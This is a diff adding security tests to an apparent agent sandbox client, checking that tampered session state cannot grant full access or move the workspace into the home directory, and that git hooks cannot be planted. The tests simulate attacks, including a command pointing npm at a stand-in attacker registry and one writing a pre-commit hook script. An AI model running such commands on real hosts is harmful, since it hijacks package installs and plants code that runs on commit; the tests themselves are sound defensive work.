@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import io
 import json
 import os
 import shutil
@@ -205,3 +206,73 @@ def test_a_background_commands_unread_output_is_bounded_on_the_host(base: Path) 
 
     queued = asyncio.run(main())
     assert queued <= 2 * (1 << 20), f"{queued} bytes held by the host process"
+
+
+def test_a_stored_state_cannot_widen_the_mode_of_a_client_without_options(base: Path) -> None:
+    planted = base / "home" / "planted"
+
+    async def main() -> None:
+        client = _client(base)
+        payload = await _stored_state(client, base / "ws")
+        payload["options"]["mode"] = "full-access"
+        try:  # refusing to resume is fine; running full-access unasked is not
+            session = await client.resume(client.deserialize_session_state(payload))
+            await session.start()
+        except Exception:
+            return
+        await session.exec(f"echo x > {planted}")
+        await session.aclose()
+
+    asyncio.run(main())
+    assert not planted.exists()
+
+
+def test_a_stored_state_cannot_move_the_workspace_to_the_home(base: Path) -> None:
+    home = base / "home"
+
+    async def main() -> None:
+        client = _client(base, options=StockadeSandboxClientOptions())
+        payload = await _stored_state(client, base / "ws")
+        payload["manifest"]["root"] = str(home)
+        try:
+            session = await client.resume(client.deserialize_session_state(payload))
+            await session.start()
+        except Exception:
+            return
+        # A registry of the attacker's for every later `npm install` on the host.
+        await session.exec("echo registry=https://evil.example/ > .npmrc")
+        with contextlib.suppress(Exception):
+            await session.write(Path("planted.txt"), io.BytesIO(b"in the home\n"))
+        await session.aclose()
+
+    asyncio.run(main())
+    assert not (home / ".npmrc").exists() and not (home / "planted.txt").exists()
+
+
+def test_a_write_is_judged_by_its_own_effect_not_another_commands_restore(base: Path) -> None:
+    """Under Landlock the guard restores .git when any command of the workspace ends."""
+    ws = base / "ws"
+    _git_repo(ws)
+
+    async def main() -> str:
+        a = await _client(base, "landlock").create(manifest=Manifest(root=str(ws)))
+        b = await _client(base, "landlock").create(manifest=Manifest(root=str(ws)))
+        await a.start()
+        await b.start()
+        try:
+            started = await a.pty_exec_start(
+                "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; sleep 5",
+                yield_time_s=0.5)
+            assert started.process_id is not None
+            try:
+                await b.write(Path("f.txt"), io.BytesIO(b"b's work\n"))
+            except Exception as exc:
+                return f"{type(exc).__name__}: {exc}"
+            return "written"
+        finally:
+            await a.aclose()
+            await b.aclose()
+
+    assert asyncio.run(main()) == "written"
+    assert (ws / "f.txt").read_text() == "b's work\n"
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
